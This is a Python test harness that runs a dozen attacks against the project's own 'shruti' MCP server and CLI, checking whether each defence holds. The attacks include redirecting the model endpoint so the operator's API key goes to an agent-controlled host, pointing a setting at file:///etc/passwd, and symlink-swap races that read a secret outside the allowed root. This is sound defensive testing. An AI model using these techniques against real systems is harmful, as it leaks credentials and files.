"""The attacks of issue 14, run as an attacker would: against a `shruti` executable, over
MCP (a spawned stdio server or a loopback HTTP server) and at the command line.

Each attack returns whether the defence held and what was seen. They use only the public
surface (tools, arguments, commands), so the same attacks run against any build: the tests
run them against this checkout, and `python -m bench.attacks --shruti PATH` against an
installed one (an older build shows which got through).
"""

from __future__ import annotations

import contextlib
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Literal

import anyio
from mcp import Client, StdioServerParameters
from mcp.types import CallToolResult, TextContent

from tests.support.fake_openai import fake_openai
from tests.support.lectures import MODEL_LECTURE

Transport = Literal["stdio", "http"]
SECRET = "sk-operator-secret-4242"
MARKER = "OUTSIDE-SECRET-MARKER"


@dataclass(frozen=True, slots=True)
class Target:
    """How to start the `shruti` under attack."""

    argv: tuple[str, ...]

    @classmethod
    def this_checkout(cls) -> Target:
        return cls((sys.executable, "-c", "from server.cli.main import main; main()"))


@dataclass(frozen=True, slots=True)
class Outcome:
    finding: int
    name: str
    held: bool
    detail: str


@dataclass
class Lab:
    """A scratch world: a root the agent may use, a folder outside it, a state dir."""

    base: Path
    target: Target
    transport: Transport = "stdio"
    env: dict[str, str] = field(default_factory=dict)

    @property
    def root(self) -> Path:
        return self.base / "root"

    @property
    def outside(self) -> Path:
        return self.base / "outside"

    def prepare(self) -> None:
        for folder in (self.root, self.outside, self.base / "home"):
            folder.mkdir(parents=True, exist_ok=True)
        (self.outside / "secret.srt").write_text(srt([MARKER]), encoding="utf-8")

    def environment(self, **extra: str) -> dict[str, str]:
        clean = {k: v for k, v in os.environ.items() if not k.startswith("SHRUTI_")}
        return {
            **clean,
            "SHRUTI_HOME": str(self.base / "home"),
            "SHRUTI_PATHS__ALLOWED_ROOTS": json.dumps([str(self.root)]),
            **self.env,
            **extra,
        }

    def run(
        self, *args: str, cwd: Path | None = None, **env: str
    ) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [*self.target.argv, *args],
            cwd=cwd or self.root,
            env=self.environment(**env),
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )

    @asynccontextmanager
    async def client(self, *, cwd: Path | None = None, **env: str) -> AsyncIterator[Client]:
        """An MCP client on a fresh server of the target, over this lab's transport."""
        environment = self.environment(**env)
        if self.transport == "stdio":
            params = StdioServerParameters(
                command=self.target.argv[0],
                args=[*self.target.argv[1:], "serve"],
                env=environment,
                cwd=str(cwd or self.root),
            )
            async with Client(params, mode="legacy") as client:
                yield client
            return
        port = free_port()
        server = subprocess.Popen(
            [*self.target.argv, "serve", "--transport", "streamable-http", "--port", str(port)],
            cwd=cwd or self.root,
            env=environment,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        try:
            await wait_for_port(port)
            async with Client(f"http://127.0.0.1:{port}/mcp", mode="legacy") as client:
                yield client
        finally:
            server.terminate()
            server.wait(timeout=10)


def srt(texts: list[str] | tuple[str, ...]) -> str:
    return "".join(
        f"{i}\n00:00:{i % 60:02d},000 --> 00:00:{i % 60:02d},900\n{text}\n\n"
        for i, text in enumerate(texts, 1)
    )


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port: int = probe.getsockname()[1]
    return port


async def wait_for_port(port: int, timeout_s: float = 20.0) -> None:
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 0.2):
            return
        await anyio.sleep(0.05)
    raise TimeoutError(f"no server on port {port}")


def text_of(result: CallToolResult) -> str:
    return " ".join(block.text for block in result.content if isinstance(block, TextContent))


async def call(client: Client, tool: str, arguments: dict[str, Any]) -> CallToolResult:
    with anyio.fail_after(120):
        return await client.call_tool(tool, arguments)


# 1 ------------------------------------------------------------------------------------------


async def key_to_the_agents_host(lab: Lab) -> Outcome:
    """The agent points the model at its own endpoint; does the operator's key go there?"""
    with fake_openai("good") as agents_host:
        async with lab.client(SHRUTI_MODEL__API_KEY=SECRET) as client:
            changed = await call(
                client,
                "update_config",
                {
                    "changes": {
                        "model.backend": "openai",
                        "model.base_url": agents_host.base_url,
                        "model.name": "x",
                    },
                    "reason": "use my model",
                },
            )
            await call(client, "process_transcript", {"srt": srt(MODEL_LECTURE)})
            as_file = await call(
                client,
                "update_config",
                {"changes": {"model.base_url": "file:///etc/passwd"}, "reason": "x"},
            )
        leaked = [a for a in agents_host.state.authorizations if a and SECRET in a]
        sent = agents_host.calls
    held = changed.is_error and as_file.is_error and not leaked and sent == 0
    return Outcome(
        1,
        "operator's model key sent to the agent's host",
        held,
        f"update refused={changed.is_error}, requests to agent host={sent}, "
        f"with the key={len(leaked)}, file:// refused={as_file.is_error}",
    )


# 2 ------------------------------------------------------------------------------------------


async def setting_that_stops_shruti(lab: Lab) -> Outcome:
    """A verse pack that does not exist: is it stored, and does Śruti still start?"""
    async with lab.client() as client:
        refused = await call(
            client, "update_config", {"changes": {"verses.packs": ["/nonexistent"]}, "reason": "x"}
        )
    (lab.root / "talk.srt").write_text(srt(["so krishna says"]), encoding="utf-8")
    after = lab.run("process", "talk.srt")
    held = refused.is_error and after.returncode == 0
    return Outcome(
        2,
        "a setting that stops Śruti from starting",
        held,
        f"update refused={refused.is_error}, process afterwards exit {after.returncode}",
    )


# 3 ------------------------------------------------------------------------------------------


async def batch_writes_through_links(lab: Lab) -> Outcome:
    """Symlinked folder in the output tree, and a symlinked journal: writes outside?"""
    source, output = lab.root / "in", lab.root / "out"
    (source / "sub").mkdir(parents=True)
    (source / "sub" / "talk.srt").write_text(srt(["so krishna says"]), encoding="utf-8")
    output.mkdir()
    escape = lab.outside / "escape"
    escape.mkdir()
    (escape / "talk.srt").write_text("precious\n", encoding="utf-8")
    (output / "sub").symlink_to(escape)
    journal_target = lab.outside / "planted-journal"
    (output / ".shruti-journal.sqlite3").symlink_to(journal_target)
    async with lab.client() as client:
        started = await call(client, "process_batch", {"input_dir": "in", "output_dir": "out"})
        await wait_for_job(client, started)
    overwritten = (escape / "talk.srt").read_text(encoding="utf-8") != "precious\n"
    planted = journal_target.exists()
    return Outcome(
        3,
        "batch writes outside the roots through links",
        not (overwritten or planted),
        f"file behind a linked folder overwritten={overwritten}, "
        f"journal created through a link={planted}",
    )


async def wait_for_job(
    client: Client, started: CallToolResult, timeout_s: float = 60
) -> dict[str, Any]:
    if started.is_error or not isinstance(started.structured_content, dict):
        return {"state": "refused", "detail": text_of(started)}
    job_id = started.structured_content["job_id"]
    deadline = time.monotonic() + timeout_s
    status: dict[str, Any] = {}
    while time.monotonic() < deadline:
        result = await call(client, "batch_status", {"job_id": job_id})
        status = result.structured_content if isinstance(result.structured_content, dict) else {}
        if status.get("state") not in (None, "running"):
            return status
        await anyio.sleep(0.2)
    return {**status, "state": "still running"}


# 4 ------------------------------------------------------------------------------------------


async def fifo_hangs_the_batch(lab: Lab) -> Outcome:
    source = lab.root / "in"
    source.mkdir()
    os.mkfifo(source / "a-pipe.srt")
    (source / "b-talk.srt").write_text(srt(["so krishna says"]), encoding="utf-8")
    async with lab.client() as client:
        started = await call(client, "process_batch", {"input_dir": "in", "output_dir": "out"})
        status = await wait_for_job(client, started, timeout_s=30)
    later_done = (lab.root / "out" / "b-talk.srt").exists()
    held = status.get("state") == "finished" and later_done
    return Outcome(
        4,
        "a FIFO among the inputs hangs the batch",
        held,
        f"job state={status.get('state')}, the next file written={later_done}",
    )


# 5 ------------------------------------------------------------------------------------------


async def model_answer_breaks_the_srt(lab: Lab) -> Outcome:
    """A hostile endpoint answers with line breaks inside a word."""
    cues = list(MODEL_LECTURE) * 3
    with fake_openai("linebreaks") as endpoint:
        async with lab.client(
            SHRUTI_MODEL__BACKEND="openai", SHRUTI_MODEL__BASE_URL=endpoint.base_url
        ) as client:
            result = await call(client, "process_transcript", {"srt": srt(cues)})
    content = result.structured_content if isinstance(result.structured_content, dict) else {}
    output = str(content.get("srt") or "")
    blocks = [block for block in output.replace("\r\n", "\n").split("\n\n") if block.strip()]
    held = not result.is_error and len(blocks) == len(cues) and "\u2028" not in output
    return Outcome(
        5,
        "a model answer splits a cue",
        held,
        f"{len(cues)} cues in, {len(blocks)} blocks out, endpoint asked {endpoint.calls}x",
    )


# 6 ------------------------------------------------------------------------------------------


async def symlink_swap_race(lab: Lab, calls: int = 300) -> Outcome:
    """A local process swaps a file in the root for a link to a file outside, over and over."""
    talk = lab.root / "talk.srt"
    inside = srt(["so krishna says"])
    talk.write_text(inside, encoding="utf-8")
    stop = threading.Event()

    def racer() -> None:
        link = lab.root / ".swap"
        while not stop.is_set():
            with contextlib.suppress(OSError):
                link.unlink(missing_ok=True)
                link.symlink_to(lab.outside / "secret.srt")
                link.replace(talk)
                plain = lab.root / ".plain"
                plain.write_text(inside, encoding="utf-8")
                plain.replace(talk)

    thread = threading.Thread(target=racer, daemon=True)
    leaked = 0
    async with lab.client() as client:
        thread.start()
        try:
            for _ in range(calls):
                result = await call(client, "process_transcript", {"path": "talk.srt"})
                leaked += MARKER in json.dumps(result.structured_content or {}) + text_of(result)
        finally:
            stop.set()
            thread.join(timeout=5)
    return Outcome(
        6,
        "symlink swapped between check and open",
        leaked == 0,
        f"{leaked} of {calls} calls returned the outside file's content",
    )


# 7 ------------------------------------------------------------------------------------------


def batch_processes(marker: str) -> list[str]:
    listing = subprocess.run(["ps", "-eo", "pid,args"], capture_output=True, text=True, check=False)
    return [
        line for line in listing.stdout.splitlines() if "multiprocessing" in line and marker in line
    ]


async def kill_nine_leaves_workers(lab: Lab) -> Outcome:
    source = lab.root / "in"
    source.mkdir()
    big = srt(["so krishna says to arjuna in the bhagavad gita"] * 4000)
    for index in range(40):  # far more work than the time to the kill
        (source / f"talk{index:02}.srt").write_text(big, encoding="utf-8")
    env = lab.environment()
    batch = subprocess.Popen(
        [*lab.target.argv, "batch", "in", "out", "--jobs", "2"],
        cwd=lab.root,
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    own: list[int] = []
    with anyio.move_on_after(30):  # until the fork server and workers run: a fixed wait
        while len(own) < 3 and batch.poll() is None:  # raced a fast machine's whole batch
            await anyio.sleep(0.1)
            own = _children_of(batch.pid)
    await anyio.sleep(0.5)  # the workers busy with their first files
    own = _children_of(batch.pid)
    os.kill(batch.pid, signal.SIGKILL)
    batch.wait()
    await anyio.sleep(3)
    left = [pid for pid in own if _alive(pid)]
    for pid in left:  # do not leave them behind ourselves
        with contextlib.suppress(ProcessLookupError):
            os.kill(pid, signal.SIGKILL)
    return Outcome(
        7,
        "kill -9 of a batch leaves its processes running",
        bool(own) and not left,
        f"{len(own)} batch processes before, {len(left)} left 3 s after kill -9",
    )


def _children_of(parent: int) -> list[int]:
    """Every descendant of `parent` (by /proc), breadth first."""
    found, frontier = [], [parent]
    while frontier:
        current = frontier.pop()
        for status in Path("/proc").glob("[0-9]*/stat"):
            with contextlib.suppress(OSError, ValueError, IndexError):
                fields = status.read_text().rsplit(")", 1)[1].split()
                if int(fields[1]) == current:
                    child = int(status.parent.name)
                    found.append(child)
                    frontier.append(child)
    return found


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


# 8 ------------------------------------------------------------------------------------------


async def corrupt_state_files(lab: Lab) -> Outcome:
    source, output = lab.root / "in", lab.root / "out"
    source.mkdir()
    output.mkdir()
    (source / "talk.srt").write_text(srt(["so krishna says"]), encoding="utf-8")
    (output / ".shruti-journal.sqlite3").write_bytes(b"this is not a database" * 50)
    journal = lab.run("batch", "in", "out", "--jobs", "1")
    (lab.base / "home" / "config.sqlite3").write_bytes(b"")
    store = lab.run("config", "show")
    journal_ok = journal.returncode == 2 and ".shruti-journal.sqlite3" in journal.stderr
    store_ok = store.returncode == 2 and "config.sqlite3" in store.stderr
    return Outcome(
        8,
        "corrupt or empty state files",
        journal_ok and store_ok,
        f"bad journal: exit {journal.returncode}; empty store: exit {store.returncode}",
    )


# 9 ------------------------------------------------------------------------------------------


def recited_lecture(verses: int) -> str:
    """A lecture reciting `verses` Gītā half-verses, as ASR spells them, between remarks."""
    from core.knowledge.phonetic import fold

    records = [
        json.loads(line)
        for line in (Path(__file__).resolve().parents[2] / "config" / "verses_bg.jsonl")
        .read_text(encoding="utf-8")
        .splitlines()
    ]
    halves = [fold(record["iast"].split("|")[0]).replace("'", "") for record in records]
    cues: list[str] = []
    for index in range(verses):
        cues += ["and then the teacher explained this point again", halves[index % len(halves)]]
    return srt(cues)


async def huge_result(lab: Lab) -> Outcome:
    """A long lecture reciting thousands of verses, written to output_path: is the result
    still small (every verse found used to be listed)?"""
    text = recited_lecture(8_000)
    async with lab.client() as client:
        result = await call(client, "process_transcript", {"srt": text, "output_path": "out.srt"})
    size = len(json.dumps(result.structured_content or {})) + len(text_of(result))
    held = not result.is_error and size < 512 * 1024
    return Outcome(
        9,
        "a large result breaks HTTP clients",
        held,
        f"{len(text) / 1e6:.1f} MB in, result {size / 1024:.0f} KiB, error={result.is_error}",
    )


# 10 -----------------------------------------------------------------------------------------


async def very_long_path(lab: Lab) -> Outcome:
    async with lab.client() as client:
        result = await call(client, "process_transcript", {"path": "a" * 5000 + ".srt"})
    message = text_of(result)
    held = result.is_error and "characters long" in message and "4,096" in message
    return Outcome(10, "a 5,000-character path", held, message[:120])


# 11 -----------------------------------------------------------------------------------------


async def started_in_the_filesystem_root(lab: Lab) -> Outcome:
    lab_env = {"SHRUTI_PATHS__ALLOWED_ROOTS": "[]"}
    async with lab.client(cwd=Path("/"), **lab_env) as client:
        result = await call(client, "process_transcript", {"path": str(lab.outside / "secret.srt")})
        roots = await client.list_resources()
    listed = any(str(resource.uri) == "roots://allowed" for resource in roots.resources)
    held = result.is_error and MARKER not in json.dumps(result.structured_content or {}) and listed
    return Outcome(
        11,
        "started in / with no roots set, any file is served",
        held,
        f"read refused={result.is_error}, roots://allowed listed={listed}",
    )


# 12 -----------------------------------------------------------------------------------------


async def batch_replaces_edited_files(lab: Lab) -> Outcome:
    source, output = lab.root / "in", lab.root / "out"
    source.mkdir()
    output.mkdir()
    (source / "talk.srt").write_text(srt(["so krishna says"]), encoding="utf-8")
    (output / "talk.srt").write_text("fixed by an editor\n", encoding="utf-8")
    async with lab.client() as client:
        started = await call(client, "process_batch", {"input_dir": "in", "output_dir": "out"})
        await wait_for_job(client, started)
    cli = lab.run("batch", "in", "out", "--jobs", "1")
    kept = (output / "talk.srt").read_text(encoding="utf-8") == "fixed by an editor\n"
    return Outcome(
        12,
        "batches overwrite what editors fixed by hand",
        kept,
        f"editor's file kept={kept}; CLI exit {cli.returncode}",
    )


ATTACKS: dict[int, Callable[[Lab], Awaitable[Outcome]]] = {
    1: key_to_the_agents_host,
    2: setting_that_stops_shruti,
    3: batch_writes_through_links,
    4: fifo_hangs_the_batch,
    5: model_answer_breaks_the_srt,
    6: symlink_swap_race,
    7: kill_nine_leaves_workers,
    8: corrupt_state_files,
    9: huge_result,
    10: very_long_path,
    11: started_in_the_filesystem_root,
    12: batch_replaces_edited_files,
}
"""Finding number -> attack. Finding 13 (load) is measured by bench/attacks.py."""
CLI_ONLY = frozenset({7, 8})
"""Attacks that do not talk MCP: run once, not per transport."""
